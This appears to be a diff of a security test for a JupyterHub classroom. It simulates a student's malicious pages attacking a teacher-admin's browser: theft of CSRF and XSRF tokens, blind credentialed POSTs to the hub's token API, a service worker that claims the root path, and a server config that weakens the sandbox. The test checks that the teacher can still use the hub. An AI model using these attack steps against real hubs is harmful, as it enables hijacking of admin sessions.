@@ -1,8 +1,9 @@
 """A student's page in the teacher's browser: what it tries, and what the teacher must still be able to do.
 
 The student makes her own Jupyter server serve her HTML as pages of her server (her ~/.jupyter config:
-no sandbox on her files, and `Service-Worker-Allowed: /`), then gets the teacher (a hub admin) to open
-~/attack.html. The page tries, with every URL a student could guess (the class's own and relative ones):
+no sandbox on her files, `Service-Worker-Allowed: /`, and the opener policy each page needs), then gets
+the teacher (a hub admin) to open ~/attack.html and ~/hub.html. They try, with every URL a student
+could guess (the class's own and relative ones):
 - the teacher's page in a window of its own: read its CSRF token, then pause the class with it;
 - /hub/token in a frame and in a window: read its XSRF token, then make a token of the teacher's;
 - blind POSTs to the hub's token API (no XSRF token);
@@ -26,9 +27,20 @@ from jupyter_server.files.handlers import FilesHandler
 
 for served in (AuthenticatedFileHandler, FilesHandler):  # no sandbox on my pages
     served.content_security_policy = JupyterHandler.content_security_policy
-# A worker may claim "/", and a window of mine keeps its hold on a window it opens that sends the same
-# Cross-Origin-Opener-Policy (the teacher's page does).
-c.ServerApp.tornado_settings = {"headers": {"Service-Worker-Allowed": "/", "Cross-Origin-Opener-Policy": "same-origin"}}  # noqa: F821
+
+# attack.html keeps its hold on a window it opens that sends the same Cross-Origin-Opener-Policy (the
+# teacher's page does); hub.html sends none, so it keeps its hold on the hub's pages, which send none.
+headers = AuthenticatedFileHandler.set_default_headers
+
+
+def my_headers(self):
+    headers(self)
+    if self.request.path.endswith("/attack.html"):
+        self.set_header("Cross-Origin-Opener-Policy", "same-origin")
+
+
+AuthenticatedFileHandler.set_default_headers = my_headers
+c.ServerApp.tornado_settings = {"headers": {"Service-Worker-Allowed": "/"}}  # a worker may claim "/"  # noqa: F821
 '''
 
 WORKER = '''
@@ -157,12 +169,16 @@ async function attempt(step) {
     window.done = true;
     return;
   }
-  for (const url of T.pages) await attempt(async () => R.pages.push(await teachersPage(url)));
-  for (const url of T.hub) for (const how of ["frame", "window"]) await attempt(async () => R.hub.push(await hubToken(url, how)));
-  for (const url of T.tokens) {  // no XSRF token: a form-like POST and a JSON one
-    try { await fetch(url, {method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify({note: T.note})}); } catch (e) {}
-    R.blind.push(await post(url, {"Content-Type": "application/json"}, {note: T.note}));
+  if (location.pathname.endsWith("/hub.html")) {
+    for (const url of T.hub) for (const how of ["frame", "window"]) await attempt(async () => R.hub.push(await hubToken(url, how)));
+    for (const url of T.tokens) {  // no XSRF token: a form-like POST and a JSON one
+      try { await fetch(url, {method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify({note: T.note})}); } catch (e) {}
+      R.blind.push(await post(url, {"Content-Type": "application/json"}, {note: T.note}));
+    }
+    window.done = true;
+    return;
   }
+  for (const url of T.pages) await attempt(async () => R.pages.push(await teachersPage(url)));
   await attempt(async () => { R.worker = await worker(); });
   await attempt(plant);
   window.done = true;
@@ -188,12 +204,13 @@ def as_student(name, files):
                         f"{home}/{path}"], input=text, text=True, check=True)
 
 
-FILES = (".jupyter/jupyter_server_config.py", "sw.js", "attack.html")
+FILES = (".jupyter/jupyter_server_config.py", "sw.js", "attack.html", "hub.html")
 
 
 def publish(name, tgt):
-    """The student's page, worker and server configuration, in her home (her server serves them once restarted)."""
-    as_student(name, dict(zip(FILES, (SERVER_CONFIG, WORKER, PAGE.replace("TARGETS", json.dumps(tgt))))))
+    """The student's pages, worker and server configuration, in her home (her server serves them once restarted)."""
+    page = PAGE.replace("TARGETS", json.dumps(tgt))
+    as_student(name, dict(zip(FILES, (SERVER_CONFIG, WORKER, page, page))))
 
 
 def withdraw(name):
@@ -215,6 +232,13 @@ def open_as_teacher(page, url):
         raise AssertionError(f"the student's page did not finish at {page.url}: {so_far} {page.content()[:500]}") from e
     r = page.evaluate("R")
     assert r["origin"] != "null" and not r["errors"], f"the student's page did not run as hers: {r}"
+    return r
+
+
+def attack_all(page, url):
+    """The teacher opens the student's attack.html at url, then her hub.html beside it: what both got."""
+    r = open_as_teacher(page, url)
+    r["hub"], r["blind"] = (open_as_teacher(page, url.replace("/attack.html", "/hub.html"))[k] for k in ("hub", "blind"))
     return r
 
 
@@ -269,6 +293,7 @@ def after_the_flood(page, hub, teacher, password):
     with one sentence and she logs in again; returns True if it did."""
     r = page.goto(f"{hub}/hub/home")
     cleared = r.status == 400 and "planted" in page.inner_text("body")
+    page.flood_answer = f"HTTP {r.status} at {page.url}: {page.inner_text('body')[:200]!r}"
     if cleared:
         page.goto(f"{hub}/hub/login")
     if "/hub/login" in page.url:
